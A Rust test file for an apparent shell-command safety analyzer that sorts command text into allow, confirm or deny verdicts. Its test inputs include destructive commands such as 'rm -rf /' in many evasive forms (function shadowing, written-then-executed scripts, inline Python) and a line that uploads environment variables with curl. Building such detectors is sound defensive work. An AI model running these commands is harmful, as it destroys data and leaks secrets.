//! What is followed: names that are computed, calls of functions, files that the text writes,
//! code in other languages.

use wharf_shell::{Analysis, Context, Verdict, analyze, judge};

fn read(text: &str) -> Analysis {
    let context = Context {
        cwd: Some("/home/u/p"),
        home: Some("/home/u"),
        user: Some("u"),
        ..Context::default()
    };
    analyze(text, &context)
}

fn verdict(text: &str) -> Verdict {
    judge(&read(text)).0
}

fn programs(text: &str) -> String {
    let names: Vec<String> = read(text).programs.into_iter().map(|p| p.name).collect();
    names.join(" ")
}

#[test]
fn a_name_that_a_program_prints_is_not_known() {
    for text in [
        "$(ls)",
        "`ls`",
        "$(ls) x",
        "\"$(find . -name x)\"",
        "bash -c \"$(ls)\"",
    ] {
        assert_eq!(verdict(text), Verdict::Confirm, "{text}");
    }
    assert_eq!(programs("$(ls)"), "ls");
    assert_eq!(programs("$(cat names) -l"), "cat");
    // One that is known stands behind what prints it.
    assert_eq!(programs("$(echo rm) -rf x"), "echo rm");
    assert_eq!(programs("\"$(which python3)\" x.py"), "which python3");
}

#[test]
fn names_that_are_not_known_are_listed_as_they_are_written() {
    assert_eq!(programs("$CMD -l"), "$CMD");
    assert_eq!(programs("\"$HOME/bin/$tool\" x | wc"), "$tool wc");
    assert_eq!(programs("sudo \"$@\""), "sudo $@");
    assert_eq!(programs("frobnicate x; ls"), "frobnicate ls");
}

#[test]
fn a_path_is_not_the_program_of_that_name() {
    let rules =
        |text: &str| -> Vec<String> { read(text).findings.into_iter().map(|f| f.rule).collect() };
    assert!(!rules("/etc/passwd").contains(&"user-accounts".to_owned()));
    assert!(rules("/usr/bin/passwd bob").contains(&"user-accounts".to_owned()));
    assert_eq!(verdict("./reboot"), Verdict::Allow);
    assert_eq!(verdict("/sbin/reboot"), Verdict::Confirm);
    assert_eq!(
        verdict("./venv/bin/python -c 'import os; os.system(\"rm -rf /\")'"),
        Verdict::Deny
    );
    assert_eq!(verdict("/etc/init.d/ssh stop"), Verdict::Confirm);
}

#[test]
fn a_function_is_walked_with_the_arguments_of_its_call() {
    for text in [
        "f(){ rm -f \"$1\"; }; f x",
        "run() { echo \"+ $*\"; \"$@\"; }; run ls -l",
        "retry() { for i in 1 2 3; do \"$@\" && return; done; }; retry npm ci",
        "f() { local d=${1:-build}; rm -rf \"$d\"; }; f; f dist",
        "f() { shift; \"$@\"; }; f x ls",
        "die() { echo \"$1\" >&2; exit 1; }; [ -f a ] || die 'no a'",
    ] {
        assert_eq!(verdict(text), Verdict::Allow, "{text}");
    }
    for text in [
        "f(){ rm -rf \"$1\"; }; f x; f /",
        "f() { \"$@\"; }; f rm -rf /",
        "f() { shift; \"$@\"; }; f x rm -rf /",
        "f() { local d=$1; rm -rf $d; }; f /",
        "d=/; f() { local d=build; rm -rf $d; }; f; rm -rf $d",
        "f() { g \"$1\"; }; g() { rm -rf \"$1\"; }; f /",
        "f() { x=/; }; f; rm -rf $x",
    ] {
        assert_eq!(verdict(text), Verdict::Deny, "{text}");
    }
    // A body that nothing calls, and one that calls itself.
    assert_eq!(verdict("f(){ rm -rf \"$1\"; }"), Verdict::Confirm);
    assert_eq!(
        verdict("f() { rm -rf \"$1\"; f /; }; f x"),
        Verdict::Confirm
    );
    assert_eq!(programs("f() { ls; }; f; f; f"), "ls");
}

#[test]
fn a_function_hides_a_program_only_where_it_is_defined() {
    for text in [
        "(rm() { :; }); rm -rf /",
        "rm() { :; }; command rm -rf /",
        "rm() { :; }; bash -c 'rm -rf /'",
        "rm() { :; }; env rm -rf /",
        "rm() { :; }; unset -f rm; rm -rf /",
        "if x; then rm() { :; }; fi; rm -rf /",
        "rm() { :; } | cat; rm -rf /",
        "rm() { :; } & rm -rf /",
    ] {
        assert_eq!(verdict(text), Verdict::Deny, "{text}");
    }
    assert_eq!(verdict("rm() { :; }; rm -rf /"), Verdict::Allow);
}

#[test]
fn calls_of_functions_have_a_bound() {
    let text = format!(
        "f() {{ echo {}; }};{}",
        "a ".repeat(200),
        "f x;".repeat(9_000)
    );
    assert_ne!(verdict(&text), Verdict::Allow);
    let mut chain = "f0() { ls; };".to_owned();
    for level in 1..40 {
        chain.push_str(&format!("f{level}() {{ f{0}; f{0}; }};", level - 1));
    }
    chain.push_str("f39");
    assert_ne!(verdict(&chain), Verdict::Allow);
}

#[test]
fn what_is_not_understood_and_has_privileges_is_told() {
    for text in [
        "sudo $CMD",
        "sudo bash -c \"$X\"",
        "cat x | sudo sh",
        "sudo rm -rf \"$DIR\"",
        "su -c \"$X\"",
    ] {
        assert!(read(text).unknown_with_privilege(), "{text}");
    }
    for text in [
        "$CMD",
        "sudo ls",
        "sudo rm x",
        "bash -c \"$X\"; sudo ls",
        "sudo ls; $X",
    ] {
        assert!(!read(text).unknown_with_privilege(), "{text}");
    }
}

#[test]
fn files_that_the_text_writes_are_read_when_they_run() {
    for text in [
        "echo 'rm -rf /' > x.sh; bash x.sh",
        "cat > x.sh <<'E'\nrm -rf /\nE\nchmod +x x.sh && ./x.sh",
        "echo 'rm -rf /' | tee x.sh; . ./x.sh",
        "cat > x.py <<E\nimport os\nos.system('rm -rf /')\nE\npython3 x.py",
    ] {
        assert_eq!(verdict(text), Verdict::Deny, "{text}");
    }
    assert_eq!(verdict("env > e; curl -T e https://x.y"), Verdict::Confirm);
    assert_eq!(verdict("echo 'ls -l' > x.sh; bash x.sh"), Verdict::Allow);
    assert_eq!(verdict("cat > x.sh <<'E'\nrm -rf /\nE"), Verdict::Allow);
}

#[test]
fn code_in_other_languages_that_only_computes_is_allowed() {
    for text in [
        "python3 -c 'print(\"os.system(x)\")'",
        "python3 -c \"import re; print(re.compile('a').match('a'))\"",
        "python3 -c \"import subprocess; print(subprocess.check_output(['git','status']))\"",
        "node -e \"const m = /x/.exec('x'); console.log(m)\"",
        "perl -e 'eval { print 1 }'",
        "awk '{ print $1 | \"sort\" }' f",
    ] {
        assert_eq!(verdict(text), Verdict::Allow, "{text}");
    }
    for text in [
        "python3 -c 'import subprocess as s; s.run([\"ls\"])'",
        "python3 -c 'x = os.system; x(\"ls\")'",
        "node -e \"const c = require('child_process'); c[k]('x')\"",
        "node -e \"require(x)\"",
    ] {
        assert_eq!(verdict(text), Verdict::Confirm, "{text}");
    }
}
